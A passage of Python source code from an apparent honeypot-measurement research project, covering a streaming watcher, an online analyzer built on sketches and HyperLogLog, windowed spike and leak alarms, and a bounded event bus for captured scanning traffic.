        "vantages": len(analyzer.events_per_vantage),
        "snapshots": printer.snapshots_rendered,
        "state_bytes": analyzer.state_bytes(),
        "seconds": round(seconds, 4),
        "bus": bus.stats.as_dict(),
        "incidents": None,
    }
    pipeline = printer.incidents
    if pipeline is not None:
        summary["incidents"] = pipeline.summary()
        if printer.options.audit_log:
            records = pipeline.audit.write(printer.options.audit_log)
            summary["audit_log"] = {
                "path": printer.options.audit_log,
                "records": records,
                "digest": pipeline.audit.digest(),
            }
    return summary


def stream_table(bus: StreamBus, table, chunk_events: int) -> int:
    """Publish one EventTable's rows as bounded chunks; returns events."""
    length = len(table)
    if length == 0:
        return 0
    columns = {
        "timestamps": table.timestamps,
        "src_ip": table.src_ip,
        "src_asn": table.src_asn,
        "dst_ip": table.dst_ip,
        "dst_port": table.dst_port,
        "transport_code": table.transport_code,
        "handshake": table.handshake,
        "payload": table.payloads,
        "credentials": table.credentials,
        "commands": table.commands,
    }
    for start in range(0, length, chunk_events):
        stop = min(start + chunk_events, length)
        bus.publish(StreamChunk.from_table_chunk(table, columns, start, stop))
    return length


# -- mode 1: tap a running simulation ---------------------------------------


def watch_simulation(
    config=None,
    options: Optional[WatchOptions] = None,
    say: Callable[[str], None] = print,
) -> dict:
    """Simulate one window with the stream tap attached, snapshotting live."""
    from repro.deployment.fleet import build_full_deployment
    from repro.experiments.context import ExperimentConfig, _WINDOWS
    from repro.scanners.population import PopulationConfig, build_population
    from repro.sim.engine import SimulationConfig, run_simulation
    from repro.sim.rng import RngHub

    config = config or ExperimentConfig()
    options = options or WatchOptions()
    window = _WINDOWS[config.year]
    hub = RngHub(config.seed)
    deployment = build_full_deployment(
        hub, num_telescope_slash24s=config.telescope_slash24s
    )
    population = build_population(PopulationConfig(year=config.year, scale=config.scale))
    bus, analyzer, printer = _pipeline(
        window.hours, options, say, leak_experiment=deployment.leak_experiment
    )
    say(f"watching a live simulation: {len(population)} campaigns, "
        f"{len(deployment.honeypots)} vantage points, seed {config.seed}")
    started = time.perf_counter()
    run_simulation(
        deployment,
        population,
        SimulationConfig(seed=config.seed, window=window),
        tap=bus.table_tap(),
    )
    bus.close()
    elapsed = time.perf_counter() - started
    printer.emit(final=True)  # the final snapshot always renders
    return _summary(bus, analyzer, printer, elapsed)


# -- mode 2: attach to an orchestrate spill directory -----------------------


def watch_run_dir(
    run_dir: Union[str, Path],
    options: Optional[WatchOptions] = None,
    say: Callable[[str], None] = print,
    follow_seconds: float = 0.0,
    poll_seconds: float = 0.5,
) -> dict:
    """Stream an orchestrated run's spilled shards through the pipeline.

    Completed shards (manifest present) are streamed in shard order;
    with ``follow_seconds > 0`` the directory is re-polled for newly
    completed shards until the deadline passes, so the watcher can run
    alongside a live ``orchestrate``.
    """
    from repro.deployment.fleet import build_full_deployment
    from repro.experiments.context import ExperimentConfig, _WINDOWS
    from repro.io.shards import load_shard_tables, read_manifest
    from repro.sim.rng import RngHub

    run_dir = Path(run_dir)
    options = options or WatchOptions()
    run_file = run_dir / "run.json"
    config_fields = {}
    if run_file.exists():
        with open(run_file, "r", encoding="utf-8") as handle:
            config_fields = json.load(handle).get("config", {})
    config = ExperimentConfig(**config_fields) if config_fields else ExperimentConfig()
    window = _WINDOWS[config.year]
    # The deployment rebuild is deterministic per seed; it supplies the
    # leak-experiment geometry the alarms need (no event data is read
    # from it — everything streamed comes from the shards).
    deployment = build_full_deployment(
        RngHub(config.seed), num_telescope_slash24s=config.telescope_slash24s
    )
    bus, analyzer, printer = _pipeline(
        window.hours, options, say, leak_experiment=deployment.leak_experiment
    )

    processed: set[str] = set()
    abandoned: set[str] = set()
    attempts: dict[str, int] = {}
    retry_at: dict[str, float] = {}
    started = time.perf_counter()
    deadline = started + max(0.0, follow_seconds)

    def _resolve_shard(shard_path: Path) -> dict:
        """Load a shard and force every streamed column to resolve.

        A shard copied or crashed mid-write can carry a manifest while
        its column banks are truncated; resolving everything up front
        makes such a shard fail *here*, before a single chunk has been
        published, so a retry never double-streams rows.
        """
        tables = load_shard_tables(shard_path)
        for table in tables.values():
            _ = (table.timestamps, table.src_ip, table.src_asn, table.dst_ip,
                 table.dst_port, table.transport_code, table.handshake,
                 table.payloads, table.credentials, table.commands)
        return tables

    def _sweep() -> int:
        streamed = 0
        for shard_path in sorted(run_dir.glob("shard-*")):
            name = shard_path.name
            if name in processed or name in abandoned or not shard_path.is_dir():
                continue
            if time.perf_counter() < retry_at.get(name, 0.0):
                continue  # backing off a previously unreadable shard
            if read_manifest(shard_path) is None:
                continue  # still being written
            try:
                tables = _resolve_shard(shard_path)
            except (OSError, ValueError, KeyError, EOFError,
                    zipfile.BadZipFile) as error:
                # Manifest present but banks unreadable: the shard is
                # in flight (or damaged).  Retry with bounded backoff;
                # give up on it — without raising — after enough tries.
                count = attempts.get(name, 0) + 1
                attempts[name] = count
                if count >= _MAX_SHARD_ATTEMPTS:
                    abandoned.add(name)
                    say(f"abandoning {name}: unreadable after "
                        f"{count} attempt(s) ({error})")
                else:
                    backoff = min(
                        max(poll_seconds, 0.05) * (2 ** (count - 1)),
                        _MAX_SHARD_BACKOFF,
                    )
                    retry_at[name] = time.perf_counter() + backoff
                    say(f"{name} not readable yet ({error}); "
                        f"retrying in {backoff:.2f}s")
                continue
            processed.add(name)
            say(f"streaming {name} "
                f"({sum(len(t) for t in tables.values()):,} events)")
            for vantage_id in sorted(tables):
                streamed += stream_table(bus, tables[vantage_id], options.chunk_events)
        return streamed

    _sweep()
    while time.perf_counter() < deadline:
        time.sleep(poll_seconds)
        _sweep()
    if not processed:
        raise FileNotFoundError(f"no completed shards under {run_dir}")
    bus.close()
    elapsed = time.perf_counter() - started
    printer.emit(final=True)
    summary = _summary(bus, analyzer, printer, elapsed)
    summary["shards"] = len(processed)
    return summary


# -- mode 3: attach to a live honeypot fleet --------------------------------


def watch_live(
    services: dict,
    duration: float = 30.0,
    interval: float = 5.0,
    host: str = "127.0.0.1",
    options: Optional[WatchOptions] = None,
    say: Callable[[str], None] = print,
    honeypot_kwargs: Optional[dict] = None,
) -> dict:
    """Serve live honeypots with the stream attached; snapshot on a
    wall-clock cadence.  Returns the summary dict (plus bound ports)."""
    import asyncio

    from repro.honeypots.live.server import LiveHoneypot

    options = options or WatchOptions()
    # Live timestamps are hours since start; one window hour per wall
    # hour of serving, minimum one.
    hours = max(1, int(np.ceil(duration / 3600.0)))
    bus, analyzer, printer = _pipeline(hours, options, say)

    async def _serve() -> dict:
        honeypot = LiveHoneypot(
            host=host, services=services, on_event=bus.event_tap(),
            **(honeypot_kwargs or {}),
        )
        async with honeypot:
            bound = ", ".join(
                f"{host}:{actual} ({type(services[requested]).__name__})"
                for requested, actual in honeypot.bound_ports.items()
            )
            say(f"watching live fleet on {bound} for {duration:.0f}s "
                f"(snapshot every {interval:.0f}s)")
            deadline = asyncio.get_running_loop().time() + duration
            while True:
                remaining = deadline - asyncio.get_running_loop().time()
                if remaining <= 0:
                    break
                await asyncio.sleep(min(interval, max(remaining, 0.0)))
                bus.flush()
                if options.max_snapshots and (
                    printer.snapshots_rendered >= options.max_snapshots
                ):
                    continue
                printer.emit()
            await honeypot.stop()
        bus.close()
        return {"bound_ports": dict(honeypot.bound_ports),
                "rejected_connections": honeypot.rejected_connections}

    started = time.perf_counter()
    extra = asyncio.run(_serve())
    elapsed = time.perf_counter() - started
    printer.emit(final=True)
    summary = _summary(bus, analyzer, printer, elapsed)
    summary.update(extra)
    return summary
