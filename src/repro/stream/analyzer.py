"""The standard bus subscriber: online sketches + windows + alarms.

:class:`StreamAnalyzer` consumes :class:`~repro.stream.bus.StreamChunk`
objects and maintains, in bounded memory:

* per-vantage Space-Saving sketches for each §3.3 characteristic
  (source AS, username, password, payload — payloads with ephemeral
  headers stripped, exactly as the batch ``payload_counter`` does);
* per-vantage HyperLogLog distinct-source counters;
* per-vantage tumbling hourly volume windows feeding the existing spike
  detector;
* the streaming Table 3 leak alarm, when the fleet carries the Section
  4.3 experiment.

``snapshot()`` captures the current state as a renderable
:class:`StreamSnapshot`; ``chi_square(characteristic)`` re-evaluates the
§3.3 top-k-union comparison on demand without a rescan.
"""

from __future__ import annotations

from collections import Counter
from dataclasses import dataclass, field
from typing import Optional, Union

import numpy as np

from repro.deployment.fleet import LeakExperiment
from repro.reporting.tables import render_table
from repro.scanners.payloads import strip_ephemeral_headers
from repro.stats.contingency import ChiSquareResult
from repro.stream.bus import BusStats, StreamChunk
from repro.stream.sketches import HyperLogLog, StreamingContingency
from repro.stream.windows import LeakAlarm, StreamingLeakAlarm, TumblingWindows

__all__ = ["CHARACTERISTICS", "StreamAnalyzer", "StreamSnapshot"]

#: The §3.3 characteristics tracked per vantage point.
CHARACTERISTICS = ("as", "username", "password", "payload")


@dataclass
class StreamSnapshot:
    """One rendered view of the stream's current state."""

    events: int
    chunks: int
    vantages: int
    sealed_hours: int
    watermark: float
    top_categories: dict[str, list[tuple[str, list]]]  # characteristic -> [(vantage, top)]
    vantage_rows: list[tuple]  # (vantage, events, rate/hr, distinct src, spikes)
    comparisons: dict[str, ChiSquareResult]
    leak_alarms: list[LeakAlarm] = field(default_factory=list)
    bus_stats: Optional[BusStats] = None
    state_bytes: int = 0
    #: Incident-pipeline summary (None when detection is not attached).
    incidents: Optional[dict] = None

    def render(self, top_vantages: int = 8) -> str:
        """Plain-text snapshot (what `cloudwatching watch` prints)."""
        lines = [
            f"== stream snapshot: {self.events:,} events / {self.chunks:,} chunks "
            f"from {self.vantages} vantage(s), watermark {self.watermark:.2f}h "
            f"({self.sealed_hours} sealed hour(s)), state ~{self.state_bytes:,} B =="
        ]
        busiest = sorted(self.vantage_rows, key=lambda row: -row[1])[:top_vantages]
        if busiest:
            lines.append(render_table(
                ["vantage", "events", "events/hr", "~distinct src", "spikes"],
                [(vid, f"{events:,}", f"{rate:.1f}", f"{distinct:.0f}", spikes)
                 for vid, events, rate, distinct, spikes in busiest],
                title="per-vantage rates (busiest first)",
            ))
        for characteristic, rows in self.top_categories.items():
            if not rows:
                continue
            lines.append(render_table(
                ["vantage", f"top {characteristic}"],
                [(vid, ", ".join(_category_label(c) for c in top)) for vid, top in rows],
                title=f"top categories: {characteristic}",
            ))
        if self.comparisons:
            lines.append(render_table(
                ["characteristic", "phi", "p", "magnitude", "n"],
                [(name, f"{result.phi:.3f}", f"{result.p_value:.2e}",
                  str(result.magnitude), result.sample_size)
                 if result.valid else (name, "-", "-", "untestable", 0)
                 for name, result in self.comparisons.items()],
                title="§3.3 cross-vantage comparisons (top-3 union)",
            ))
        if self.leak_alarms:
            lines.append(render_table(
                ["service", "group", "fold/hr", "MWU p", "alarm", "spikes"],
                [(alarm.service, alarm.group, f"{alarm.fold:.1f}",
                  f"{alarm.mwu_p:.3f}",
                  "LEAK" if alarm.stochastically_greater else
                  ("spike" if alarm.distribution_differs else "-"),
                  f"{alarm.leaked_spikes}/{alarm.control_spikes}")
                 for alarm in self.leak_alarms],
                title="leak alarms (vs control)",
            ))
        if self.incidents is not None:
            inc = self.incidents
            line = (
                f"incidents: {inc['open']} open / "
                f"{inc['acknowledged']} acknowledged / "
                f"{inc['resolved']} resolved; "
                f"{inc['actions']} action(s), "
                f"{inc['blocklist_entries']} blocklist entr"
                + ("y" if inc["blocklist_entries"] == 1 else "ies")
            )
            if inc.get("last_action"):
                line += f"; last action: {inc['last_action']}"
            lines.append(line)
        if self.bus_stats is not None:
            stats = self.bus_stats
            lines.append(
                f"bus: {stats.published_events:,} published, "
                f"{stats.delivered_events:,} delivered, "
                f"{stats.dropped_events:,} dropped "
                f"({stats.dropped_chunks:,} chunk(s) rejected), "
                f"{stats.backpressure_flushes} backpressure flush(es), "
                f"high water {stats.queue_high_water:,} events"
            )
        return "\n".join(lines)

    def as_dict(self) -> dict:
        """JSON-safe snapshot (the ``watch --format json`` shape)."""
        return {
            "events": int(self.events),
            "chunks": int(self.chunks),
            "vantages": int(self.vantages),
            "sealed_hours": int(self.sealed_hours),
            "watermark_hours": float(self.watermark),
            "state_bytes": int(self.state_bytes),
            "vantage_rows": [
                {
                    "vantage": vid,
                    "events": int(events),
                    "rate_per_hour": float(rate),
                    "distinct_sources": float(distinct),
                    "spikes": int(spikes),
                }
                for vid, events, rate, distinct, spikes in self.vantage_rows
            ],
            "top_categories": {
                name: [
                    {"vantage": vid,
                     "top": [_category_json(c) for c in top]}
                    for vid, top in rows
                ]
                for name, rows in self.top_categories.items()
            },
            "comparisons": {
                name: {
                    "phi": float(result.phi),
                    "p_value": float(result.p_value),
                    "sample_size": int(result.sample_size),
                    "valid": bool(result.valid),
                    "magnitude": str(result.magnitude) if result.valid else "untestable",
                }
                for name, result in self.comparisons.items()
            },
            "leak_alarms": [
                {
                    "service": alarm.service,
                    "group": alarm.group,
                    "fold": float(alarm.fold),
                    "mwu_p": float(alarm.mwu_p),
                    "stochastically_greater": bool(alarm.stochastically_greater),
                    "distribution_differs": bool(alarm.distribution_differs),
                    "leaked_spikes": int(alarm.leaked_spikes),
                    "control_spikes": int(alarm.control_spikes),
                }
                for alarm in self.leak_alarms
            ],
            "bus": self.bus_stats.as_dict() if self.bus_stats is not None else None,
            "incidents": self.incidents,
        }


def _category_label(category) -> str:
    if isinstance(category, bytes):
        text = category.split(b"\r\n", 1)[0].decode("utf-8", errors="replace")
        return text[:32] or "<binary>"
    return str(category)[:32]


def _category_json(category) -> Union[int, str, dict]:
    """One sketch category as a JSON-safe value (bytes survive base64d)."""
    import base64

    if isinstance(category, bytes):
        return {
            "base64": base64.b64encode(category).decode("ascii"),
            "text": _category_label(category),
        }
    if isinstance(category, (int, np.integer)):
        return int(category)
    return str(category)


class StreamAnalyzer:
    """Bounded-memory online view of a captured-event stream."""

    def __init__(
        self,
        hours: int,
        sketch_k: int = 64,
        hll_p: int = 12,
        leak_experiment: Optional[LeakExperiment] = None,
        characteristics: tuple[str, ...] = CHARACTERISTICS,
    ) -> None:
        self.hours = int(hours)
        self.sketch_k = sketch_k
        self.hll_p = hll_p
        self.characteristics = tuple(characteristics)
        self.contingency: dict[str, StreamingContingency] = {
            name: StreamingContingency(sketch_k) for name in self.characteristics
        }
        self.windows = TumblingWindows(self.hours)
        self.distinct_sources: dict[str, HyperLogLog] = {}
        self.events_per_vantage: Counter = Counter()
        self.leak: Optional[StreamingLeakAlarm] = (
            StreamingLeakAlarm(leak_experiment, self.hours)
            if leak_experiment is not None
            else None
        )
        self.events_consumed = 0
        self.chunks_consumed = 0

    # -- ingest --------------------------------------------------------

    def consume(self, chunk: StreamChunk) -> None:
        length = len(chunk)
        if length == 0:
            return
        vantage_id = chunk.vantage_id
        self.chunks_consumed += 1
        self.events_consumed += length
        self.events_per_vantage[vantage_id] += length

        timestamps = chunk.resolved("timestamps")
        self.windows.add(vantage_id, timestamps)

        # source AS counts (pre-aggregated per chunk, then sketched);
        # 1-row chunks (live honeypots, per-hour replay cells) skip the
        # np.unique machinery — its fixed cost dwarfs the scalar update.
        if "as" in self.contingency:
            asns = chunk.raw("src_asn")
            if not isinstance(asns, np.ndarray):
                self.contingency["as"].update(vantage_id, int(asns), float(length))
            elif length == 1:
                self.contingency["as"].update(
                    vantage_id, int(asns[chunk.start]), 1.0
                )
            else:
                values, counts = np.unique(
                    asns[chunk.start:chunk.stop], return_counts=True
                )
                self.contingency["as"].update_counts(
                    vantage_id,
                    dict(zip((int(v) for v in values), counts.tolist())),
                )

        # distinct scanning sources
        hll = self.distinct_sources.get(vantage_id)
        if hll is None:
            hll = self.distinct_sources[vantage_id] = HyperLogLog(self.hll_p)
        src = chunk.raw("src_ip")
        if not isinstance(src, np.ndarray):
            hll.add(int(src))
        elif length == 1:
            hll.add(int(src[chunk.start]))
        else:
            hll.add_ints(src[chunk.start:chunk.stop])

        # payload / credential characteristics (object columns)
        if "payload" in self.contingency:
            counts = self._payload_counts(chunk)
            if counts:
                self.contingency["payload"].update_counts(vantage_id, counts)
        if "username" in self.contingency or "password" in self.contingency:
            usernames, passwords = self._credential_counts(chunk)
            if usernames and "username" in self.contingency:
                self.contingency["username"].update_counts(vantage_id, usernames)
            if passwords and "password" in self.contingency:
                self.contingency["password"].update_counts(vantage_id, passwords)

        if self.leak is not None:
            self.leak.observe(
                chunk.resolved("dst_ip"),
                chunk.resolved("dst_port"),
                chunk.resolved("src_asn"),
                timestamps,
            )
            # Event time advances even when no experiment traffic arrives.
            self.leak.windows.watermark = max(
                self.leak.windows.watermark, self.windows.watermark
            )

    @staticmethod
    def _payload_counts(chunk: StreamChunk) -> Counter:
        counts: Counter = Counter()
        value = chunk.raw("payload")
        if isinstance(value, np.ndarray):
            for payload in value[chunk.start:chunk.stop]:
                if payload:
                    counts[strip_ephemeral_headers(payload)] += 1
        elif value:
            counts[strip_ephemeral_headers(value)] += len(chunk)
        return counts

    @staticmethod
    def _credential_counts(chunk: StreamChunk) -> tuple[Counter, Counter]:
        usernames: Counter = Counter()
        passwords: Counter = Counter()
        value = chunk.raw("credentials")
        if isinstance(value, np.ndarray):
            for pairs in value[chunk.start:chunk.stop]:
                for username, password in pairs:
                    usernames[username] += 1
                    passwords[password] += 1
        elif value:
            for username, password in value:
                usernames[username] += len(chunk)
                passwords[password] += len(chunk)
        return usernames, passwords

    # -- on-demand analysis --------------------------------------------

    def chi_square(self, characteristic: str, k: int = 3) -> ChiSquareResult:
        """Re-evaluate one §3.3 comparison across vantages, right now."""
        return self.contingency[characteristic].chi_square(k)

    def top(self, characteristic: str, vantage_id: str, k: int = 3) -> list:
        return self.contingency[characteristic].top(vantage_id, k)

    def state_bytes(self) -> int:
        """Approximate resident bytes of all online state."""
        total = self.windows.state_bytes()
        total += sum(c.state_bytes() for c in self.contingency.values())
        total += sum(h.state_bytes() for h in self.distinct_sources.values())
        if self.leak is not None:
            total += self.leak.state_bytes()
        return total

    def snapshot(
        self,
        top_k: int = 3,
        bus_stats: Optional[BusStats] = None,
        trailing_hours: Optional[int] = None,
        max_vantages_per_table: int = 6,
    ) -> StreamSnapshot:
        """Capture the current online state as a renderable snapshot."""
        busiest = [vid for vid, _count in self.events_per_vantage.most_common()]
        vantage_rows = [
            (
                vid,
                int(self.events_per_vantage[vid]),
                self.windows.rate_per_hour(vid),
                self.distinct_sources[vid].estimate() if vid in self.distinct_sources else 0.0,
                self.windows.spikes(vid),
            )
            for vid in busiest
        ]
        top_categories: dict[str, list[tuple[str, list]]] = {}
        for name in self.characteristics:
            contingency = self.contingency[name]
            rows = []
            for vid in busiest[:max_vantages_per_table]:
                top = contingency.top(vid, top_k)
                if top:
                    rows.append((vid, top))
            top_categories[name] = rows
        comparisons = {
            name: self.contingency[name].chi_square(top_k)
            for name in self.characteristics
            if len(self.contingency[name]) >= 2
        }
        return StreamSnapshot(
            events=self.events_consumed,
            chunks=self.chunks_consumed,
            vantages=len(self.events_per_vantage),
            sealed_hours=self.windows.sealed_hours(),
            watermark=self.windows.watermark,
            top_categories=top_categories,
            vantage_rows=vantage_rows,
            comparisons=comparisons,
            leak_alarms=(
                self.leak.evaluate(trailing_hours) if self.leak is not None else []
            ),
            bus_stats=bus_stats,
            state_bytes=self.state_bytes(),
        )
