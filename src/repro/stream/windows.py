"""Windowed aggregation: tumbling hourly volumes, streaming spikes, and
the streaming Table 3 leak alarm.

* :class:`TumblingWindows` maintains per-key hourly event counts with
  exactly the binning of :func:`repro.stats.volume.hourly_volumes`
  (integer-edge histogram over ``[0, hours)``), so a fully drained
  stream reproduces the batch series bit-for-bit.  The sealed prefix
  (hours the watermark has passed) feeds the *existing* spike detector,
  :func:`repro.stats.volume.count_spikes`, unchanged.
* :class:`StreamingLeakAlarm` is the streaming version of the Section
  4.3 / Table 3 comparison: per-(service, leak-group) hourly volumes are
  maintained incrementally, crawler ASes excluded, and an on-demand
  :func:`~repro.stats.volume.compare_volumes` (one-sided Mann–Whitney U
  + KS) runs over the trailing window against the control group.  With
  the trailing window spanning the whole observation window, the
  all-traffic rows converge to ``leak_report``'s batch answers.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Hashable, Iterable, Optional

import numpy as np

from repro.deployment.fleet import LeakExperiment
from repro.stats.volume import VolumeComparison, compare_volumes, count_spikes

__all__ = ["TumblingWindows", "LeakAlarm", "StreamingLeakAlarm"]


class TumblingWindows:
    """Bounded per-key tumbling hourly counts with a shared watermark."""

    def __init__(self, hours: int) -> None:
        if hours < 1:
            raise ValueError("hours must be >= 1")
        self.hours = int(hours)
        self._series: dict[Hashable, np.ndarray] = {}
        #: Largest timestamp observed (event time, fractional hours).
        self.watermark = 0.0

    def __contains__(self, key: Hashable) -> bool:
        return key in self._series

    def keys(self) -> list[Hashable]:
        return sorted(self._series, key=repr)

    def add(self, key: Hashable, timestamps: np.ndarray) -> int:
        """Bin ``timestamps`` into ``key``'s hourly series; returns kept."""
        array = np.asarray(timestamps, dtype=np.float64)
        if array.size == 0:
            return 0
        series = self._series.get(key)
        if series is None:
            series = self._series[key] = np.zeros(self.hours, dtype=np.float64)
        # np.histogram semantics over range (0, hours): the final bin is
        # closed on the right, everything outside the range is dropped.
        keep = (array >= 0.0) & (array <= self.hours)
        kept = array[keep]
        if kept.size == 0:
            return 0
        indices = np.minimum(kept.astype(np.int64), self.hours - 1)
        np.add.at(series, indices, 1.0)
        self.watermark = max(self.watermark, float(kept.max()))
        return int(kept.size)

    def series(self, key: Hashable) -> np.ndarray:
        """The key's full hourly series (zeros if never seen)."""
        series = self._series.get(key)
        if series is None:
            return np.zeros(self.hours, dtype=np.float64)
        return series

    def sealed_hours(self) -> int:
        """Hours the watermark has fully passed (safe to analyze)."""
        return min(int(self.watermark), self.hours)

    def sealed_series(self, key: Hashable) -> np.ndarray:
        """The sealed prefix of the key's series."""
        return self.series(key)[: self.sealed_hours()]

    def spikes(self, key: Hashable, threshold_sigmas: float = 3.0) -> int:
        """Run the existing batch spike detector on the sealed prefix."""
        return count_spikes(self.sealed_series(key), threshold_sigmas)

    def rate_per_hour(self, key: Hashable) -> float:
        """Mean events/hour over the sealed prefix (0 before first seal)."""
        sealed = self.sealed_series(key)
        return float(sealed.mean()) if sealed.size else 0.0

    def state_bytes(self) -> int:
        return sum(series.nbytes for series in self._series.values())


# -- streaming Table 3 ------------------------------------------------------

#: The engines' own crawler origin ASes (see repro.analysis.leak).
_CRAWLER_ASES = (398324, 10439)

#: The (protocol, port) services the leak experiment emulates.
_LEAK_SERVICES: tuple[tuple[str, int], ...] = (("http", 80), ("ssh", 22), ("telnet", 23))


@dataclass(frozen=True)
class LeakAlarm:
    """One streaming Table 3 row: a service × leak-group comparison."""

    service: str
    group: str
    fold: float
    mwu_p: float
    ks_p: float
    stochastically_greater: bool
    distribution_differs: bool
    leaked_spikes: int
    control_spikes: int
    trailing_hours: int


class StreamingLeakAlarm:
    """Streaming leak detection over the Section 4.3 experiment layout.

    ``observe`` filters each chunk down to experiment traffic (crawler
    ASes excluded) and updates per-(port, group) hourly histograms;
    ``evaluate`` compares each leaked group's trailing per-IP series
    against the control group's with the same tests Table 3 uses.
    """

    def __init__(self, experiment: LeakExperiment, hours: int) -> None:
        self.experiment = experiment
        self.hours = int(hours)
        self.windows = TumblingWindows(self.hours)
        # Group membership: control/previously IPs count on every leak
        # service port; each leaked group's IPs only on its own port.
        self._group_sizes: dict[tuple[int, str], int] = {}
        self._ip_groups: dict[int, str] = {}
        for ip in experiment.control_ips:
            self._ip_groups[int(ip)] = "control"
        for ip in experiment.previously_leaked_ips:
            self._ip_groups[int(ip)] = "previously"
        for _protocol, port in _LEAK_SERVICES:
            self._group_sizes[(port, "control")] = len(experiment.control_ips)
            self._group_sizes[(port, "previously")] = len(experiment.previously_leaked_ips)
        self._leaked_port: dict[int, tuple[int, str]] = {}
        for group in experiment.leak_groups:
            self._group_sizes[(group.port, group.engine)] = len(group.ips)
            for ip in group.ips:
                self._leaked_port[int(ip)] = (group.port, group.engine)
        self._watch_ips = np.unique(np.fromiter(
            (int(ip) for ip in experiment.all_ips), dtype=np.int64
        ))
        #: Same membership as ``_watch_ips``, for the small-chunk path —
        #: ``np.isin``'s fixed cost dwarfs a few set probes on the
        #: 1-row chunks live honeypots and per-hour replays publish.
        self._watch_set = {int(ip) for ip in self._watch_ips}
        self._ports = np.asarray([port for _p, port in _LEAK_SERVICES], dtype=np.int64)

    def observe(
        self,
        dst_ips: np.ndarray,
        dst_ports: np.ndarray,
        src_asns: np.ndarray,
        timestamps: np.ndarray,
    ) -> int:
        """Ingest one chunk's columns; returns experiment rows counted."""
        dst_ips = np.asarray(dst_ips, dtype=np.int64)
        if dst_ips.size <= 32:
            mask = np.fromiter(
                (ip in self._watch_set for ip in dst_ips.tolist()),
                dtype=bool, count=dst_ips.size,
            )
        else:
            mask = np.isin(dst_ips, self._watch_ips)
        if not mask.any():
            return 0
        dst_ports = np.asarray(dst_ports, dtype=np.int64)[mask]
        src_asns = np.asarray(src_asns, dtype=np.int64)[mask]
        stamps = np.asarray(timestamps, dtype=np.float64)[mask]
        dst_ips = dst_ips[mask]
        counted = 0
        for ip, port, asn, stamp in zip(
            dst_ips.tolist(), dst_ports.tolist(), src_asns.tolist(), stamps.tolist()
        ):
            if asn in _CRAWLER_ASES:
                continue
            name = self._ip_groups.get(ip)
            if name is None:
                leaked = self._leaked_port.get(ip)
                if leaked is None or leaked[0] != port:
                    continue
                key = leaked
            else:
                if port not in self._ports:
                    continue
                key = (port, name)
            counted += self.windows.add(key, np.asarray([stamp]))
        return counted

    def per_ip_series(self, port: int, group: str) -> np.ndarray:
        """Average per-IP hourly series for one (port, group)."""
        size = self._group_sizes.get((port, group), 0)
        if size == 0:
            return np.zeros(self.hours, dtype=np.float64)
        return self.windows.series((port, group)) / float(size)

    def evaluate(
        self, trailing_hours: Optional[int] = None, alpha: float = 0.05
    ) -> list[LeakAlarm]:
        """Run the Table 3 tests on the trailing window, right now.

        ``trailing_hours=None`` compares the full observation window
        (the configuration that converges to the batch ``leak_report``);
        a finite trailing window restricts both series to the last
        ``trailing_hours`` sealed hours, the live-alarm shape.
        """
        alarms: list[LeakAlarm] = []
        if trailing_hours is None:
            lo, hi = 0, self.hours
        else:
            hi = self.windows.sealed_hours()
            lo = max(0, hi - int(trailing_hours))
            if hi - lo < 2:  # nothing comparable yet
                return alarms
        for protocol, port in _LEAK_SERVICES:
            control = self.per_ip_series(port, "control")[lo:hi]
            for group in ("censys", "shodan", "previously"):
                if (port, group) not in self._group_sizes:
                    continue
                leaked = self.per_ip_series(port, group)[lo:hi]
                comparison: VolumeComparison = compare_volumes(leaked, control)
                service = "HTTP/80" if protocol == "http" else f"{protocol.upper()}/{port}"
                alarms.append(LeakAlarm(
                    service=service,
                    group=group,
                    fold=comparison.fold,
                    mwu_p=comparison.mwu_p,
                    ks_p=comparison.ks_p,
                    stochastically_greater=comparison.stochastically_greater(alpha),
                    distribution_differs=comparison.distribution_differs(alpha),
                    leaked_spikes=count_spikes(leaked),
                    control_spikes=count_spikes(control),
                    trailing_hours=hi - lo,
                ))
        return alarms

    def state_bytes(self) -> int:
        return self.windows.state_bytes() + 64 * len(self._group_sizes)
