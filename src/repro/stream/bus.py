"""The streaming event bus: chunked publish, bounded buffering, explicit
backpressure and drop accounting.

Producers publish :class:`StreamChunk` objects — zero-copy columnar
slices with the same column schema :class:`~repro.io.table.EventTable`
chunks use — and consumers receive them in publish order.  Two ingest
adapters cover the repository's producers:

* :meth:`StreamBus.table_tap` — a hook for the sim engine's columnar
  emission path (``run_simulation(..., tap=bus.table_tap())``): every
  batch chunk a capture table appends is republished on the bus without
  copying the columns.
* :meth:`StreamBus.event_tap` — a hook for the live asyncio honeypots
  (``LiveHoneypot(on_event=bus.event_tap())``): each captured session
  becomes a single-row chunk.

The buffer is bounded in *events*, not chunks.  Two overflow policies:

* ``"backpressure"`` (default) — a publish that would overflow first
  flushes the queue to the subscribers synchronously; the producer pays
  the processing cost and **nothing is ever lost** (the acceptance
  criterion for default queue sizes).  Forced flushes are counted.
* ``"drop"`` — the chunk is discarded and counted, the shape a
  saturated remote collector degrades in.
"""

from __future__ import annotations

from collections import deque
from dataclasses import dataclass
from typing import Callable, Optional, Protocol

import numpy as np

from repro.sim.events import CapturedEvent, NetworkKind
from repro.io.table import TRANSPORT_CODES

__all__ = ["StreamChunk", "BusStats", "StreamBus"]

#: Column names every chunk carries (the EventTable chunk schema).
CHUNK_COLUMNS = ("timestamps", "src_ip", "src_asn", "dst_ip", "dst_port",
                 "transport_code", "handshake", "payload", "credentials", "commands")


class StreamChunk:
    """A columnar slice of captured events from one vantage point.

    ``columns`` maps column names to arrays *or* scalars (scalars
    broadcast over the chunk, exactly as in EventTable chunks), and
    ``[start, stop)`` is the row range of those columns this chunk
    covers — so republishing an engine batch is zero-copy.
    """

    __slots__ = ("vantage_id", "network", "network_kind", "region",
                 "columns", "start", "stop")

    def __init__(
        self,
        vantage_id: str,
        network: str,
        network_kind: NetworkKind,
        region: str,
        columns: dict,
        start: int,
        stop: int,
    ) -> None:
        self.vantage_id = vantage_id
        self.network = network
        self.network_kind = network_kind
        self.region = region
        self.columns = columns
        self.start = start
        self.stop = stop

    def __len__(self) -> int:
        return self.stop - self.start

    @classmethod
    def from_table_chunk(cls, table, columns: dict, start: int, stop: int) -> "StreamChunk":
        """Wrap one EventTable chunk append (the sim-engine tap)."""
        return cls(table.vantage_id, table.network, table.network_kind,
                   table.region, columns, start, stop)

    @classmethod
    def from_event(cls, event: CapturedEvent) -> "StreamChunk":
        """Wrap one captured session (the live-honeypot tap)."""
        columns = {
            "timestamps": float(event.timestamp),
            "src_ip": int(event.src_ip),
            "src_asn": int(event.src_asn),
            "dst_ip": int(event.dst_ip),
            "dst_port": int(event.dst_port),
            "transport_code": TRANSPORT_CODES[event.transport],
            "handshake": bool(event.handshake),
